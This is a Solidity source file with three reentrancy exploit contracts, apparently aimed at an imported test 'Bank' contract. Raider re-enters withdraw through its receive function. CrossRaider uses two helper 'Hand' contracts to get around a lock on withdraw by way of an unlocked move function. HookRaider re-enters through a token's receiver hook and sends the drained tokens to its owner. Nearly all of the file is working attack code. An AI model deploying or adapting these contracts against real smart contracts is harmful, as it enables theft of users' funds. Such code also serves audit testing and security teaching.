// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./bank.sol";

/// Enters `withdraw` of a bank again while it is being paid. Behind a proxy it works the same.
contract Raider {
    address private immutable _owner = msg.sender;
    Bank private immutable _bank;
    uint256 private _left;
    uint256 private _stake;

    constructor(Bank bank) {
        _bank = bank;
    }

    /// Deposits what is sent and withdraws it `times` times, each call inside the one before.
    function raid(uint256 times) external payable {
        require(msg.sender == _owner, "not the owner");
        (_left, _stake) = (times, msg.value);
        _bank.deposit{value: msg.value}();
        _enter();
    }

    function collect() external {
        (bool sent, ) = _owner.call{value: address(this).balance}("");
        require(sent, "not collected");
    }

    function _enter() private {
        _left -= 1;
        _bank.withdraw(_stake);
    }

    receive() external payable {
        if (msg.sender == address(_bank) && _left > 0) _enter();
    }
}

/// One of two hands: while the bank pays it, it moves its balance there to the other hand.
contract Hand {
    address private immutable _boss = msg.sender;
    Bank private immutable _bank;
    address private _other;

    constructor(Bank bank) {
        _bank = bank;
    }

    function begin() external payable {
        _bank.deposit{value: msg.value}();
    }

    function take(uint256 amount, address other) external {
        require(msg.sender == _boss, "not the boss");
        _other = other;
        _bank.withdraw(amount);
        (bool sent, ) = _boss.call{value: address(this).balance}("");
        require(sent, "not collected");
    }

    receive() external payable {
        if (_other != address(0)) _bank.move(_other, _bank.balances(address(this)));
    }
}

/// Where `withdraw` is locked but `move` is not: each withdrawal leaves its amount with the other hand.
contract CrossRaider {
    address private immutable _owner = msg.sender;
    Hand private immutable _left;
    Hand private immutable _right;

    constructor(Bank bank) {
        _left = new Hand(bank);
        _right = new Hand(bank);
    }

    function raid(uint256 times) external payable {
        require(msg.sender == _owner, "not the owner");
        _left.begin{value: msg.value}();
        for (uint256 i = 0; i < times; i++) {
            (Hand hand, Hand other) = i % 2 == 0 ? (_left, _right) : (_right, _left);
            hand.take(msg.value, i + 1 < times ? address(other) : address(0));
        }
    }

    function collect() external {
        (bool sent, ) = _owner.call{value: address(this).balance}("");
        require(sent, "not collected");
    }

    receive() external payable {}
}

/// Enters again from the hook of a token that calls its receiver.
contract HookRaider is Hook {
    address private immutable _owner = msg.sender;
    TokenBank private immutable _bank;
    HookToken private immutable _token;
    uint256 private _left;
    uint256 private _stake;

    constructor(TokenBank bank, HookToken token) {
        (_bank, _token) = (bank, token);
        token.useHook(true);
        token.approve(address(bank), type(uint256).max);
    }

    /// Deposits `stake` of its tokens and withdraws it `times` times, each call inside the one before.
    function raid(uint256 stake, uint256 times) external {
        require(msg.sender == _owner, "not the owner");
        (_left, _stake) = (times, stake);
        _bank.deposit(stake);
        _enter();
    }

    /// What it has, in the token that is wrapped, to its owner.
    function collect() external {
        _token.unwrap(_token.balanceOf(address(this)));
        IERC20 underlying = _token.underlying();
        underlying.transfer(_owner, underlying.balanceOf(address(this)));
    }

    function _enter() private {
        _left -= 1;
        _bank.withdraw(_stake);
    }

    function tokensReceived(address, address from, address, uint256, bytes calldata, bytes calldata) external {
        if (from == address(_bank) && _left > 0) _enter();
    }
}
